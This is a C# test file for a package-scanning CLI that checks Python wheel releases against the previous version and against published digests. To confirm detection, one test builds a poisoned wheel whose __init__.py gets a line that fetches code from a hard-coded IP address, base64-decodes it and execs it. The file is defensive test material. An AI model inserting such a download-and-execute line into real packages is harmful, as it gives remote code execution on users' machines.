using System.Text.Json;
using TrustCheck.TestKit;
using TrustCheck.TestKit.Artifacts;
using TrustCheck.TestKit.Http.Evidence.Synthetic;

namespace TrustCheck.Cli.Tests.Inspect;

/// <summary>
/// <c>inspect --inspect-artifacts</c> end to end: the loopback index serves the real bytes of wheel 0.40.0 and 0.43.0
/// (read in place) and a 0.43.1 rebuilt at test time with a payload; the engine downloads each file, binds it to the
/// published digest, picks the previous release as baseline, and the release-contents provider reports.
/// </summary>
public sealed class InspectArtifactsTests : InspectCliTests
{
    private static byte[] Real(string file) => File.ReadAllBytes(SharedData.PathOf("data/wheels/" + file));

    [Fact]
    public async Task InspectArtifacts_RealRelease_ComparedWithTheRealPreviousOne_HasNoHighFindingAndPasses()
    {
        Publish();

        var run = await InspectAsync("wheel", "--version", "0.43.0", "--inspect-artifacts", "--format", "json");

        Assert.Equal(0, run.ExitCode);
        using var report = JsonDocument.Parse(run.Output);
        var package = report.RootElement.GetProperty("packages")[0];
        Assert.DoesNotContain(AllFindings(package), f => f.GetProperty("code").GetString()!.StartsWith("TC10", StringComparison.Ordinal) && f.GetProperty("severity").GetString() is "high" or "critical");
        Assert.Contains(Server.Requests, r => r.Path.EndsWith("wheel-0.40.0-py3-none-any.whl", StringComparison.Ordinal));
        Assert.Contains(Server.Requests, r => r.Path.EndsWith("wheel-0.43.0-py3-none-any.whl", StringComparison.Ordinal));
    }

    [Fact]
    public async Task InspectArtifacts_NewVersionAddsAPayload_IsHighRiskWithExit4()
    {
        Publish();
        var payload = PoisonedBuild.Wheel(Real("wheel-0.43.0-py3-none-any.whl"), (path, bytes) => path == "wheel/__init__.py"
            ? [.. bytes, .. "\nimport base64 as _b, urllib.request as _u\nexec(_b.b64decode(_u.urlopen('http://45.61.136.2/m').read()))\n"u8]
            : bytes);
        var poisoned = PoisonedBuild.Renamed(payload, "0.43.0", "0.43.1");
        new WheelReleases(Server, "wheel").Publish("0.43.1", "wheel-0.43.1-py3-none-any.whl", poisoned, daysAfterEpoch: 60);

        var run = await InspectAsync("wheel", "--version", "0.43.1", "--inspect-artifacts", "--format", "json");

        Assert.Equal(4, run.ExitCode);
        using var report = JsonDocument.Parse(run.Output);
        var package = report.RootElement.GetProperty("packages")[0];
        Assert.Equal("high-risk", package.GetProperty("recommendation").GetString());
        var exec = Assert.Single(AllFindings(package), f => f.GetProperty("code").GetString() == "TC10301");
        Assert.Equal("critical", exec.GetProperty("severity").GetString());
        Assert.Equal("wheel-0.43.0-py3-none-any.whl", exec.GetProperty("evidence").GetProperty("baseline").GetString());
        Assert.Equal("new", exec.GetProperty("evidence").GetProperty("novelty").GetString());
    }

    [Fact]
    public async Task InspectArtifacts_ServedBytesDifferFromThePublishedDigest_AreNotAnalysedAndFail()
    {
        Publish();
        Server.AddArtifact("wheel-0.43.0-py3-none-any.whl", Real("wheel-0.40.0-py3-none-any.whl"));

        var run = await InspectAsync("wheel", "--version", "0.43.0", "--inspect-artifacts", "--format", "json");

        Assert.Equal(4, run.ExitCode);
        using var report = JsonDocument.Parse(run.Output);
        var notAnalysed = Assert.Single(AllFindings(report.RootElement.GetProperty("packages")[0]), f => f.GetProperty("code").GetString() == "TC10501" && f.GetProperty("evidence").GetProperty("member").GetString() == "wheel-0.43.0-py3-none-any.whl");
        Assert.Equal("high", notAnalysed.GetProperty("severity").GetString());
    }

    [Fact]
    public async Task Inspect_WithoutInspectArtifacts_DownloadsNoFile()
    {
        Publish();

        var run = await InspectAsync("wheel", "--version", "0.43.0", "--format", "json");

        Assert.Equal(0, run.ExitCode);
        Assert.DoesNotContain(Server.Requests, r => r.Path.EndsWith(".whl", StringComparison.Ordinal));
    }

    private void Publish() => new WheelReleases(Server, "wheel")
        .Publish("0.40.0", "wheel-0.40.0-py3-none-any.whl", Real("wheel-0.40.0-py3-none-any.whl"), daysAfterEpoch: 10)
        .Publish("0.43.0", "wheel-0.43.0-py3-none-any.whl", Real("wheel-0.43.0-py3-none-any.whl"), daysAfterEpoch: 40);

    private static List<JsonElement> AllFindings(JsonElement package) => [.. package.GetProperty("findings").EnumerateArray()];
}
